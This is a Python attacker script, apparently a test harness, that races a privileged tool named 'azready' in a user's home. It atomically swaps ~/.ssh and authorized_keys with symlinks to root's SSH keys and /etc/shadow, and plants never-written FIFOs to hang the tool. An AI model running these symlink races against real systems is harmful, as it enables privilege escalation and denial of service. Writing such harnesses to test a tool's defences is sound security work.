"""A user who races against azready in his own home. usage: attacker.py HOME UID WAY; it runs until it is killed.

Its own names, relative to the home that it is in: it may not be able to reach that by its path.
"""

from __future__ import annotations

import contextlib
import ctypes
import os
import random
import shutil
import sys
import time
from pathlib import Path

_libc = ctypes.CDLL(None, use_errno=True)
HERE = -100  # AT_FDCWD
EXCHANGE = 2  # RENAME_EXCHANGE
KEYS = "authorized_keys"
# What a link leads to, where root follows it: files of root.
IMAGE = os.path.dirname(os.path.dirname(sys.argv[1]))
VICTIM = f"{IMAGE}/root/.ssh"
LINKS = {
    KEYS: f"{VICTIM}/{KEYS}",
    f".{KEYS}.azready": f"{VICTIM}/{KEYS}",
    ".new": f"{VICTIM}/{KEYS}",
    "x": f"{IMAGE}/etc/shadow",
}


def exchange(one: str, other: str) -> None:
    """Both names change places in one step; nothing where one of them is missing."""
    _libc.renameat2(HERE, one.encode(), HERE, other.encode(), EXCHANGE)


def links_in(folder: str) -> None:
    """A directory of the user's in which every name that azready could write to leads elsewhere."""
    with contextlib.suppress(OSError):
        os.mkdir(folder)
    for name, target in LINKS.items():
        with contextlib.suppress(OSError):
            os.symlink(target, f"{folder}/{name}")


def forget(path: str) -> None:
    """Take it away, whatever it is."""
    shutil.rmtree(path, ignore_errors=True)
    with contextlib.suppress(OSError):
        os.unlink(path)


def real_folder() -> None:
    """~/.ssh as it should be."""
    with contextlib.suppress(OSError):
        os.mkdir(".ssh")
    with contextlib.suppress(OSError):
        Path(f".ssh/{KEYS}").write_text("ssh-rsa mine\n")


def folder_for_link() -> None:
    """~/.ssh and a link to root's change places all the time."""
    real_folder()
    with contextlib.suppress(OSError):
        os.symlink(VICTIM, "other")
    for _ in range(random.randint(1, 3000)):
        exchange(".ssh", "other")


def folder_for_folder() -> None:
    """~/.ssh and a directory full of links change places all the time."""
    real_folder()
    links_in("other")
    for _ in range(random.randint(1, 3000)):
        exchange(".ssh", "other")


def file_for_link() -> None:
    """The file and a link to root's change places all the time."""
    real_folder()
    with contextlib.suppress(OSError):
        os.symlink(f"{VICTIM}/{KEYS}", ".ssh/other")
    for _ in range(random.randint(1, 3000)):
        exchange(f".ssh/{KEYS}", ".ssh/other")


def file_for_fifo() -> None:
    """The file and a pipe that nobody writes to change places all the time; whoever opens that waits for ever."""
    real_folder()
    with contextlib.suppress(OSError):
        os.mkfifo(".ssh/other")
    for _ in range(random.randint(1, 3000)):
        exchange(f".ssh/{KEYS}", ".ssh/other")


def folder_is_fifo() -> None:
    """~/.ssh is such a pipe, or the file in it is one."""
    clean()
    with contextlib.suppress(OSError):
        if random.random() < 0.5:
            os.mkfifo(".ssh")
        else:
            os.mkdir(".ssh")
            os.mkfifo(f".ssh/{KEYS}")
    time.sleep(0.2)


def new_name() -> None:
    """Whatever appears in ~/.ssh is exchanged for a link, or a directory of links, at once.

    These lie in ~/.ssh, too: a directory of root's cannot be moved to another one.
    """
    clean()
    real_folder()
    links_in(".ssh/folder")
    with contextlib.suppress(OSError):
        os.symlink(f"{VICTIM}/{KEYS}", ".ssh/link")
    while True:
        with contextlib.suppress(OSError):
            for name in os.listdir(".ssh"):
                if name not in (KEYS, "folder", "link"):
                    exchange(f".ssh/{name}", ".ssh/folder" if os.path.isdir(f".ssh/{name}") else ".ssh/link")
                    time.sleep(0.4)
                    return


def new_folder() -> None:
    """~/.ssh is exchanged for a link as soon as it is made."""
    clean()
    with contextlib.suppress(OSError):
        os.symlink(VICTIM, "other")
    while not os.path.lexists(".ssh"):
        pass
    exchange(".ssh", "other")
    time.sleep(0.4)


def clean() -> None:
    """Begin with an empty home."""
    for name in os.listdir("."):
        forget(name)


if __name__ == "__main__":
    os.chdir(sys.argv[1])
    os.setgroups([])
    os.setgid(int(sys.argv[2]))
    os.setuid(int(sys.argv[2]))
    way = globals()[sys.argv[3]]
    print("ready", flush=True)
    while True:
        way()
        if random.random() < 0.1:
            clean()
